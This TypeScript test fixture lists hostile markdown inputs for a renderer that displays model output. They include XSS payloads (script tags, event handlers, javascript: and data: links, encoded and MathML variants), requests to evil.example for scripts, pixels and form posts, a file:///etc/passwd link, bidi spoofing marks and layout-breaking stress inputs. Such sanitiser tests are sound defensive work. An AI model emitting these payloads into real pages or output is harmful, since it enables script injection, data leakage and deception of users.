// Markdown that wants to run, to reach other hosts, or to break the layout. Each is what somebody could make a model say.
export interface Hostile {
    name: string;
    markdown: string;
}

const deep = (text: string, times: number) => text.repeat(times);

export const hostile: Hostile[] = [
    { name: 'a script', markdown: 'Before <script>alert("script")</script> after' },
    { name: 'a script in a block', markdown: '<script>\nalert("block")\n</script>\n\nafter' },
    { name: 'a script with an address', markdown: '<script src="https://evil.example/x.js"></script>' },
    {
        name: 'an event handler',
        markdown: '<img src=x onerror="alert(1)"> <svg onload="alert(2)"> <body onload=alert(3)>',
    },
    {
        name: 'an event handler on details',
        markdown: '<details open ontoggle=alert(1)><summary>s</summary></details>',
    },
    {
        name: 'frames and objects',
        markdown:
            '<iframe src="javascript:alert(1)"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
    },
    {
        name: 'a form',
        markdown:
            '<form action="https://evil.example"><input name=key autofocus onfocus=alert(1)><button>Sign in</button></form>',
    },
    { name: 'a base address', markdown: '<base href="https://evil.example/">\n\n[link](/docs)' },
    { name: 'a meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
    {
        name: 'a style',
        markdown:
            '<style>body{display:none}</style><p style="position:fixed;inset:0;background:red">over all</p>',
    },
    { name: 'a stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
    {
        name: 'a javascript link',
        markdown: '[click](javascript:alert(1)) [CLICK](JaVaScRiPt:alert(2)) [tab](java\tscript:alert(3))',
    },
    {
        name: 'an encoded javascript link',
        markdown:
            '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(2)) [c](\u0001javascript:alert(3)) [d]( javascript:alert(4))',
    },
    { name: 'an autolinked javascript', markdown: '<javascript:alert(1)> javascript:alert(2)' },
    { name: 'a reference to javascript', markdown: '[ref][x]\n\n[x]: javascript:alert(1)' },
    {
        name: 'data and vbscript links',
        markdown:
            '[d](data:text/html,<script>alert(1)</script>) [v](vbscript:msgbox(1)) [f](file:///etc/passwd) [b](blob:https://evil.example/1)',
    },
    {
        name: 'an image elsewhere',
        markdown: '![pixel](https://evil.example/pixel.png) ![p2](//evil.example/p.png "title")',
    },
    {
        name: 'an image with javascript',
        markdown: '![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>)',
    },
    {
        name: 'an attribute that breaks out',
        markdown:
            '[x](https://e.example/"onmouseover="alert(1)) [y](<https://e.example/"> "\\" onclick=alert(1)")',
    },
    {
        name: 'a fence that never ends',
        markdown: 'text\n\n```js\nconst x = `</code></pre><script>alert(1)</script>',
    },
    {
        name: 'a fence with a hostile language',
        markdown:
            '```"><img src=x onerror=alert(1)>\ncode\n```\n\n```__proto__\nx\n```\n\n```constructor\ny\n```',
    },
    { name: 'fences in fences', markdown: '````md\n```\ninner\n````\n```\n`````\n~~~' },
    {
        name: 'a table of 60 columns',
        markdown: `|${deep(' wide column |', 60)}\n|${deep('---|', 60)}\n|${deep(' cell |', 60)}`,
    },
    { name: 'a table of 2,000 rows', markdown: `| a | b |\n|---|---|\n${deep('| x | y |\n', 2000)}` },
    {
        name: 'a table with a hostile cell',
        markdown: '| a |\n|:---:|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
    },
    { name: 'a word of 20,000 letters', markdown: deep('W', 20_000) },
    {
        name: 'a line of code of 20,000 letters',
        markdown: `\`${deep('c', 5000)}\`\n\n\`\`\`\n${deep('x', 20_000)}\n\`\`\``,
    },
    { name: 'a link of 5,000 letters', markdown: `https://example.org/${deep('a', 5000)}` },
    { name: 'quotes in quotes', markdown: `${deep('> ', 500)}deep` },
    {
        name: 'lists in lists',
        markdown: Array.from({ length: 100 }, (_, depth) => `${deep('  ', depth)}- item`).join('\n'),
    },
    {
        name: 'brackets without end',
        markdown: `${deep('[', 5000)} ${deep('![', 3000)} ${deep('*a_', 3000)} ${deep('<', 3000)}`,
    },
    { name: 'emphasis without end', markdown: deep('**a *b ', 2000) },
    {
        name: 'marks that turn the text around',
        markdown:
            'safe \u202Egnp.exe\u202C [\u202Emoc.live\u202C](https://example.org) \u2066iso\u2067 unclosed \u202E',
    },
    { name: 'marks in code', markdown: '```c\n/*\u202E } \u2066if (admin)\u2069 \u2066 begin */\n```' },
    { name: 'letters with 200 accents', markdown: `Z${deep('\u0300\u0316', 200)}algo` },
    { name: 'nothing one can see', markdown: deep('\u200B\u200D\uFEFF', 500) },
    { name: 'half a pair and control characters', markdown: 'a\u0000b\u0007c\u001b[31mred \uFFFF' },
    {
        name: 'math that wants HTML',
        markdown:
            '$\\href{javascript:alert(1)}{x}$ $\\htmlStyle{position:fixed}{y}$ $\\includegraphics{https://evil.example/x.png}$ $\\url{javascript:alert(2)}$',
    },
    { name: 'math without end', markdown: `$$\\def\\a{\\a\\a}\\a$$ $${deep('\\frac{1}{', 200)}` },
    { name: 'math as wide as a field', markdown: `$$${deep('x + ', 500)}x$$` },
    { name: 'a broken formula', markdown: '$\\frac{1}{$ and $\\unknown{<img src=x onerror=alert(1)>}$' },
    {
        name: 'ids that shadow the page',
        markdown:
            '<a id="page" name="body">x</a> <form id="location"><input name="getElementById"></form>\n\n# page\n\n# __proto__',
    },
    {
        name: 'comments and declarations',
        markdown:
            '<!-- <script>alert(1)</script> --> <!DOCTYPE x> <![CDATA[<script>alert(2)</script>]]> <?php alert(3) ?>',
    },
    { name: 'tags that end the page', markdown: '</div></main></body></html><h1>outside</h1>' },
    {
        name: 'a template and a custom element',
        markdown: '<template><script>alert(1)</script></template><x-y onfocus=alert(1) tabindex=1>',
    },
    {
        name: 'math in mathml',
        markdown:
            '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    },
];
